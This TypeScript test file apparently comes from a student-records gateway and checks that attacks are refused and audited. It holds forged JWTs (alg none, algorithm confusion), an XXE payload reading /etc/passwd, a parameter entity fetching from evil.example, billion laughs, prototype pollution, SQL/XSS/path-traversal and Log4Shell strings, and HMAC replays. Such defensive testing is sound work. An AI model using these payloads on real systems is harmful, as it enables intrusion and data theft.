import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Writable } from 'node:stream';
import { SignJWT, generateKeyPair, decodeProtectedHeader, decodeJwt, base64url } from 'jose';
import { pino } from 'pino';
import type { FastifyInstance } from 'fastify';
import { startSystem, type TestSystem } from '../support/system.js';
import { injectAs, tokenFor, withToken, type AuthedInject } from '../support/auth.js';
import { sampleRecord } from '../support/records.js';
import { buildApp } from '../../gateway/app.js';
import { registerAuthScheme, sifScheme } from '../../gateway/plugins/auth.js';
import { GatewayError } from '../../core/errors.js';
import { submitRecords } from '../../core/submissions.js';
import { parseXmlSafely } from '../../core/security/safe-xml.js';
import { MemoryReplayGuard } from '../../core/security/replay-guard.js';
import { sifAuthorization } from '../../core/security/sif-hmac.js';
import { issueToken, verifyToken } from '../../core/security/access-token.js';
import { REDACT_PATHS } from '../../runtime/logger.js';

/**
 * Attack inputs against the real app: every one is refused with a 4xx, stores
 * nothing, and leaves an audit event.
 */
let sys: TestSystem;
let tx: AuthedInject;
let txToken: string;
/** A second app on the same database with test-only routes that use the helpers the SIF and XML surfaces will use. */
let lab: FastifyInstance;
const SIF_SECRET = 'sif-secret-for-tests';

beforeAll(async () => {
  sys = await startSystem({ env: { TOKEN_RATE_LIMIT_MAX: '8' } });
  txToken = (await tokenFor(sys, { state: 'TX', roles: ['state-system'] })).token;
  tx = withToken(sys, txToken);
  lab = await buildApp(sys.app.ctx);
  const guard = new MemoryReplayGuard();
  const sif = sifScheme({
    replay: guard,
    windowSeconds: 300,
    allowBasic: false,
    sessionFor: async (t) =>
      t === 'tx-session'
        ? {
            secret: SIF_SECRET,
            principal: { kind: 'client', subject: 'sif:tx', clientId: 'sif_tx', state: 'TX', roles: ['state-system'] },
          }
        : null,
  });
  registerAuthScheme(lab, 'SIF_HMACSHA256', sif);
  // What a SIF or Ed-Fi XML route does: parse with parseXmlSafely, map a refusal to GW_ERR_BAD_XML, then write.
  await lab.register(async (scope) => {
    scope.addContentTypeParser('application/xml', { parseAs: 'string' }, (_req, body, done) => {
      const r = parseXmlSafely<{ record?: { stateStudentId?: string } }>(body as string);
      if (r.kind === 'refused')
        done(new GatewayError('GW_ERR_BAD_XML', r.detail, { extra: { reason: r.reason } }), undefined);
      else done(null, r.doc);
    });
    scope.post<{ Params: { state: string }; Body: { record?: { stateStudentId?: string } } }>(
      '/lab/states/:state/records',
      {
        config: { access: { roles: ['state-system'], stateParam: 'state', schemes: ['SIF_HMACSHA256'] } },
      },
      async (request, reply) => {
        const id = String(request.body?.record?.stateStudentId ?? 'LAB-1');
        const res = await submitRecords(
          sys.db,
          sys.queue,
          { stateCode: 'TX', traceId: request.id, kind: 'lab' },
          [sampleRecord({ stateStudentId: id })],
          false,
        );
        return reply.code(res.kind === 'accepted' ? 201 : 400).send({ kind: res.kind });
      },
    );
  });
});
afterAll(async () => {
  await lab?.close();
  await sys?.close();
});

const count = async (table: string) =>
  (await sys.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM ${table}`)).rows[0]!.n;
const audited = async (action: string, since: number) =>
  (
    await sys.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM audit_events WHERE action = $1 AND seq > $2`, [
      action,
      since,
    ])
  ).rows[0]!.n;
const lastSeq = async () =>
  (await sys.db.query<{ s: number }>('SELECT coalesce(max(seq), 0)::int AS s FROM audit_events')).rows[0]!.s;
const write = (token: string, body: unknown = sampleRecord({ stateStudentId: 'ATK-1' })) =>
  sys.app.inject({
    method: 'POST',
    url: '/api/v1/states/TX/records',
    payload: body as object,
    headers: { authorization: `Bearer ${token}` },
  });

describe('forged, expired and misdirected tokens', () => {
  it('refuses each with 401, stores nothing and audits the attempt', async () => {
    const good = decodeJwt(txToken);
    const header = decodeProtectedHeader(txToken);
    const other = await generateKeyPair('ES256');
    const base = { ...good } as Record<string, unknown>;
    const sign = (claims: Record<string, unknown>, key = other.privateKey, h: Record<string, unknown> = header) =>
      new SignJWT(claims).setProtectedHeader(h as { alg: string }).sign(key);
    const now = Math.floor(Date.now() / 1000);
    const sec = sys.app.security;
    const expired = await issueToken(sec.keyring, { ...sec.tokens, ttlSeconds: -120 }, 'access', {
      subject: String(good.sub),
      clientId: String(good.client_id),
      state: 'TX',
      roles: ['state-system'],
    });
    const wrongAud = await issueToken(sec.keyring, { ...sec.tokens, audience: 'some-other-api' }, 'access', {
      subject: String(good.sub),
      clientId: String(good.client_id),
      state: 'TX',
      roles: ['state-system'],
    });
    const wrongIss = await issueToken(sec.keyring, { ...sec.tokens, issuer: 'https://evil.example' }, 'access', {
      subject: String(good.sub),
      clientId: String(good.client_id),
      state: 'TX',
      roles: ['state-system'],
    });
    const session = await issueToken(sec.keyring, sec.sessions, 'session', {
      subject: 'oidc:x',
      clientId: null,
      state: 'TX',
      roles: ['state-system'],
    });
    const [, payload] = txToken.split('.');
    const elevated = base64url.encode(JSON.stringify({ ...good, roles: ['admin'], state: null }));
    const attacks: Record<string, string> = {
      'signed by another key with our kid': await sign(base),
      'alg none': `${base64url.encode(JSON.stringify({ alg: 'none', typ: 'at+jwt', kid: header.kid }))}.${payload}.`,
      'HS256 keyed with the public JWK': await new SignJWT(base)
        .setProtectedHeader({ alg: 'HS256', typ: 'at+jwt', kid: header.kid! })
        .sign(
          new TextEncoder().encode(JSON.stringify((await sys.app.inject('/.well-known/jwks.json')).json().keys[0])),
        ),
      'claims edited, signature kept': txToken.replace(payload!, elevated),
      expired: expired.kind === 'ok' ? expired.token : '',
      'wrong audience': wrongAud.kind === 'ok' ? wrongAud.token : '',
      'wrong issuer': wrongIss.kind === 'ok' ? wrongIss.token : '',
      'a session token used as a bearer token': session.kind === 'ok' ? session.token : '',
      'unknown kid': await sign({ ...base, exp: now + 600 }, other.privateKey, { ...header, kid: 'nope' }),
      garbage: 'not.a.jwt',
    };
    // Verified once under the audience it was made for: the verified-token cache must not carry that to ours.
    expect(
      (
        await verifyToken(
          sec.keyring,
          { ...sec.tokens, audience: 'some-other-api' },
          'access',
          attacks['wrong audience']!,
        )
      ).kind,
    ).toBe('ok');
    const before = await count('state_records');
    const seq = await lastSeq();
    for (const [name, token] of Object.entries(attacks)) {
      expect(token, name).not.toBe('');
      const r = await write(token);
      expect(r.statusCode, name).toBe(401);
      expect(r.json().code, name).toBe('GW_ERR_UNAUTHENTICATED');
      expect(r.headers['www-authenticate'], name).toContain('invalid_token');
    }
    expect(await count('state_records')).toBe(before);
    expect(await audited('access.denied', seq)).toBe(Object.keys(attacks).length);
    expect((await write(txToken)).statusCode).toBe(201);
  });

  it('slows secret guessing at the token endpoint (429 per IP), auditing each failed try', async () => {
    const seq = await lastSeq();
    const statuses: number[] = [];
    for (let i = 0; i < 10; i++) {
      const r = await sys.app.inject({
        method: 'POST',
        url: '/oauth/token',
        payload: { grant_type: 'client_credentials', client_id: 'tx_guess0000', client_secret: `guess-${i}` },
        remoteAddress: '10.9.9.9',
      });
      statuses.push(r.statusCode);
    }
    expect(statuses.slice(0, 8).every((s) => s === 401)).toBe(true);
    expect(statuses.slice(8)).toEqual([429, 429]);
    expect(await audited('token.denied', seq)).toBe(8);
  });
});

describe('hostile bodies', () => {
  it('refuses oversized, malformed and prototype-poisoning JSON, storing nothing and auditing each', async () => {
    const before = await count('state_records');
    const seq = await lastSeq();
    const json = (payload: string) =>
      tx({
        method: 'POST',
        url: '/api/v1/states/TX/records',
        payload,
        headers: { 'content-type': 'application/json' },
      });
    const big = await json(JSON.stringify({ pad: 'x'.repeat(sys.config.BODY_LIMIT_BYTES + 1) }));
    expect(big.statusCode).toBe(413);
    const proto = await json(
      JSON.stringify(sampleRecord({ stateStudentId: 'P1' })).replace('{', '{"__proto__":{"polluted":true},'),
    );
    expect(proto.statusCode).toBe(400);
    const ctor = await json(
      JSON.stringify(sampleRecord({ stateStudentId: 'P2' })).replace(
        '{',
        '{"constructor":{"prototype":{"polluted":true}},',
      ),
    );
    expect(ctor.statusCode).toBe(400);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    const broken = await json('{"stateCode": "TX", ');
    expect(broken.statusCode).toBe(400);
    expect(await count('state_records')).toBe(before);
    expect(await audited('request.rejected', seq)).toBe(4);
  });

  it('refuses XML with DOCTYPE, external entities or entity expansion, storing nothing and auditing each', async () => {
    const before = await count('state_records');
    const seq = await lastSeq();
    const docs: Record<string, string> = {
      XXE:
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM ' +
        '"file:///etc/passwd">]><record><stateStudentId>&x;</stateStudentId></record>',
      'billion laughs':
        `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">` +
        Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('') +
        ']><record><stateStudentId>&lol9;</stateStudentId></record>',
      'parameter entity':
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><record/>',
      'entity without DOCTYPE': '<record><!ENTITY x "y"><stateStudentId>1</stateStudentId></record>',
      'UTF-16 declared': '<?xml version="1.0" encoding="UTF-16"?><record/>',
      'deep nesting': `${'<a>'.repeat(500)}${'</a>'.repeat(500)}`,
      'prototype element': '<record><__proto__><polluted>1</polluted></__proto__></record>',
    };
    const sifHeaders = () => {
      const ts = new Date().toISOString();
      return {
        authorization: sifAuthorization('SIF_HMACSHA256', 'tx-session', SIF_SECRET, ts),
        timestamp: ts,
        'content-type': 'application/xml',
      };
    };
    for (const [name, payload] of Object.entries(docs)) {
      const r = await lab.inject({ method: 'POST', url: '/lab/states/TX/records', payload, headers: sifHeaders() });
      expect(r.statusCode, name).toBe(400);
      expect(r.json().code, name).toBe('GW_ERR_BAD_XML');
    }
    // The canonical JSON endpoint does not take XML at all.
    expect(
      (
        await tx({
          method: 'POST',
          url: '/api/v1/states/TX/records',
          payload: docs.XXE!,
          headers: { 'content-type': 'application/xml' },
        })
      ).statusCode,
    ).toBe(415);
    expect(await count('state_records')).toBe(before);
    expect(await audited('request.rejected', seq)).toBe(Object.keys(docs).length + 1);
    // A clean document goes through the same route.
    const ok = await lab.inject({
      method: 'POST',
      url: '/lab/states/TX/records',
      payload: '<record><stateStudentId>XML-OK</stateStudentId></record>',
      headers: sifHeaders(),
    });
    expect(ok.statusCode).toBe(201);
  });
});

describe('SIF_HMACSHA256', () => {
  it(
    'accepts a signature once; refuses its replay, a stale timestamp and a forged signature, storing ' +
      'nothing and auditing each',
    async () => {
      const ts = new Date().toISOString();
      const headers = {
        authorization: sifAuthorization('SIF_HMACSHA256', 'tx-session', SIF_SECRET, ts),
        timestamp: ts,
        'content-type': 'application/xml',
      };
      const first = await lab.inject({
        method: 'POST',
        url: '/lab/states/TX/records',
        payload: '<record><stateStudentId>HMAC-1</stateStudentId></record>',
        headers,
      });
      expect(first.statusCode).toBe(201);
      const before = await count('state_records');
      const seq = await lastSeq();
      const old = new Date(Date.now() - 3600_000).toISOString();
      const attempts = {
        replay: headers,
        'stale timestamp': {
          ...headers,
          authorization: sifAuthorization('SIF_HMACSHA256', 'tx-session', SIF_SECRET, old),
          timestamp: old,
        },
        'timestamp changed after signing': { ...headers, timestamp: new Date(Date.now() + 1000).toISOString() },
        'wrong secret': {
          ...headers,
          authorization: sifAuthorization('SIF_HMACSHA256', 'tx-session', 'guess', new Date().toISOString()),
          timestamp: new Date().toISOString(),
        },
        'no timestamp': { authorization: headers.authorization, 'content-type': 'application/xml' },
        'scheme not accepted by the route': {
          ...headers,
          authorization: sifAuthorization('Basic', 'tx-session', SIF_SECRET),
        },
      };
      for (const [name, h] of Object.entries(attempts)) {
        const r = await lab.inject({
          method: 'POST',
          url: '/lab/states/TX/records',
          payload: '<record><stateStudentId>HMAC-2</stateStudentId></record>',
          headers: h,
        });
        expect(r.statusCode, name).toBe(401);
      }
      expect(await count('state_records')).toBe(before);
      expect(await audited('access.denied', seq)).toBe(Object.keys(attempts).length);
      const why = await sys.db.query<{ why: string }>(
        `SELECT details->>'why' AS why FROM audit_events WHERE action = 'access.denied' AND seq > $1 ORDER BY seq`,
        [seq],
      );
      expect(why.rows.map((r) => r.why)).toEqual([
        'replayed',
        'stale-timestamp',
        'bad-signature',
        'bad-signature',
        'missing-timestamp',
        'bad-scheme',
      ]);
    },
  );
});

describe('injection strings', () => {
  const strings = [
    `' OR '1'='1`,
    `1; DROP TABLE students;--`,
    `<script>alert(1)</script>`,
    `../../etc/passwd`,
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, a plain string on purpose
    '${jndi:ldap://x}',
  ];

  it('are refused in ids, states, query filters and credentials, with the tables intact', async () => {
    const before = {
      records: await count('state_records'),
      students: await count('students'),
      clients: await count('clients'),
    };
    const seq = await lastSeq();
    let n = 0;
    for (const s of strings) {
      const e = encodeURIComponent(s);
      const tries = [
        await tx(`/api/v1/states/${e}/records`),
        await tx(`/api/v1/students/${e}`),
        await tx(`/api/v1/exchanges?state=${e}`),
        await tx({ method: 'POST', url: `/api/v1/states/${e}/records`, payload: sampleRecord() }),
        await sys.app.inject({
          method: 'POST',
          url: '/oauth/token',
          payload: { grant_type: 'client_credentials', client_id: s, client_secret: s },
          remoteAddress: `10.1.1.${n % 250}`,
        }),
        await tx({
          method: 'POST',
          url: '/api/v1/states/TX/records',
          payload: sampleRecord({ stateStudentId: s.padEnd(16, 'x'), identity: { birthDate: s } }),
        }),
      ];
      n++;
      for (const r of tries) expect(r.statusCode, `${s} -> ${r.statusCode}`).toBeGreaterThanOrEqual(400);
      for (const r of tries) expect(r.statusCode, s).toBeLessThan(500);
    }
    expect({
      records: await count('state_records'),
      students: await count('students'),
      clients: await count('clients'),
    }).toEqual(before);
    const refusals = await sys.db.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM audit_events WHERE seq > $1 AND outcome IN ('denied', 'failure')`,
      [seq],
    );
    expect(refusals.rows[0]!.n).toBeGreaterThanOrEqual(strings.length * 4);
  });

  it('a NUL in a state code is refused and audited, not a 500 (fuzz find, issue 18)', async () => {
    // The refusal quoted the state code, NUL and all, into the audit event, whose insert failed.
    const seq = await lastSeq();
    expect((await tx('/api/v1/states/T%00/inbox')).statusCode).toBe(403);
    expect((await tx('/api/v1/states/%00/records/x')).statusCode).toBe(403);
    expect((await tx('/api/v1/deliveries?state=T%00')).statusCode).toBeLessThan(500);
    const denied = await sys.db.query<{ detail: string }>(
      `SELECT details->>'detail' AS detail FROM audit_events WHERE seq > $1 AND action = 'access.denied' ORDER BY seq`,
      [seq],
    );
    expect(denied.rows[0]!.detail).toBe('This client acts for TX, not T\uFFFD.');
  });

  it('retry and cancel of a delivery id that is no UUID answer 404, not a 500 (fuzz find, issue 18)', async () => {
    // The id went to a uuid column, which refused it with an error.
    const admin = await injectAs(sys, { state: null, roles: ['admin'] });
    for (const action of ['retry', 'cancel'])
      expect(
        (await admin({ method: 'POST', url: `/api/v1/deliveries/x%22y/${action}`, payload: { reason: 'gone away' } }))
          .statusCode,
      ).toBe(404);
  });

  it('are refused in names and free text too, while a real apostrophe is kept as data', async () => {
    const seq = await lastSeq();
    for (const [i, s] of strings.entries()) {
      const r = await tx({
        method: 'POST',
        url: '/api/v1/states/TX/records',
        payload: sampleRecord({ stateStudentId: `INJ-${i}`, identity: { lastName1: `O'Brien${s}` } }),
      });
      expect(r.statusCode, s).toBe(400);
      expect(r.json().errors[0]).toMatchObject({ path: '/identity/lastName1', rule: 'text' });
    }
    expect(
      (
        await sys.db.query<{ n: number }>(
          `SELECT count(*)::int AS n FROM state_records WHERE state_student_id LIKE 'INJ-%'`,
        )
      ).rows[0]!.n,
    ).toBe(0);
    const refusals = await sys.db.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM audit_events WHERE seq > $1 AND outcome IN ('denied', 'failure')`,
      [seq],
    );
    expect(refusals.rows[0]!.n).toBeGreaterThanOrEqual(strings.length);
    const ok = await tx({
      method: 'POST',
      url: '/api/v1/states/TX/records',
      payload: sampleRecord({ stateStudentId: 'INERT-1', identity: { lastName1: "O'Brien" } }),
    });
    expect(ok.statusCode).toBe(201);
    const stored = await sys.db.query<{ last_name1: string }>(
      `SELECT last_name1 FROM state_records WHERE state_student_id = 'INERT-1'`,
    );
    expect(stored.rows[0]!.last_name1).toBe("O'Brien");
  });
});

describe('headers and logs', () => {
  it('sends security headers on every answer', async () => {
    const r = await sys.app.inject('/health/live');
    expect(r.headers['x-content-type-options']).toBe('nosniff');
    expect(r.headers['strict-transport-security']).toContain('max-age=');
    expect(r.headers['content-security-policy']).toContain("default-src 'self'");
    expect(r.headers['x-frame-options']).toBe('SAMEORIGIN');
  });

  it('never writes secrets or tokens to the log', async () => {
    let out = '';
    const sink = new Writable({
      write(chunk, _enc, cb) {
        out += chunk.toString();
        cb();
      },
    });
    const logger = pino({ level: 'trace', redact: { paths: REDACT_PATHS, censor: '[redacted]' } }, sink);
    const app = await buildApp(sys.app.ctx, { logger });
    const t = await tokenFor(sys, { state: 'MI', roles: ['state-system'] });
    const basic = `Basic ${Buffer.from(`${t.clientId}:${t.clientSecret}`).toString('base64')}`;
    const tok = await app.inject({
      method: 'POST',
      url: '/oauth/token',
      payload: 'grant_type=client_credentials',
      headers: { authorization: basic, 'content-type': 'application/x-www-form-urlencoded' },
    });
    const access = tok.json().access_token as string;
    await app.inject({
      method: 'GET',
      url: '/api/v1/exchanges',
      headers: { authorization: `Bearer ${access}`, cookie: `msix_session=${access}` },
    });
    await app.inject({
      method: 'POST',
      url: '/oauth/token',
      payload: { grant_type: 'client_credentials', client_id: t.clientId, client_secret: t.clientSecret },
    });
    logger.info(
      {
        req: { headers: { authorization: basic } },
        client_secret: t.clientSecret,
        access_token: access,
        body: { client_secret: t.clientSecret },
      },
      'a careless log line',
    );
    logger.warn(
      { clientSecret: t.clientSecret, delivery: { clientSecret: t.clientSecret } },
      'an endpoint logged carelessly',
    );
    await app.close();
    expect(out.length).toBeGreaterThan(100);
    for (const secret of [t.clientSecret, access, access.split('.')[2]!, basic.slice(6)])
      expect(out).not.toContain(secret);
  });
});
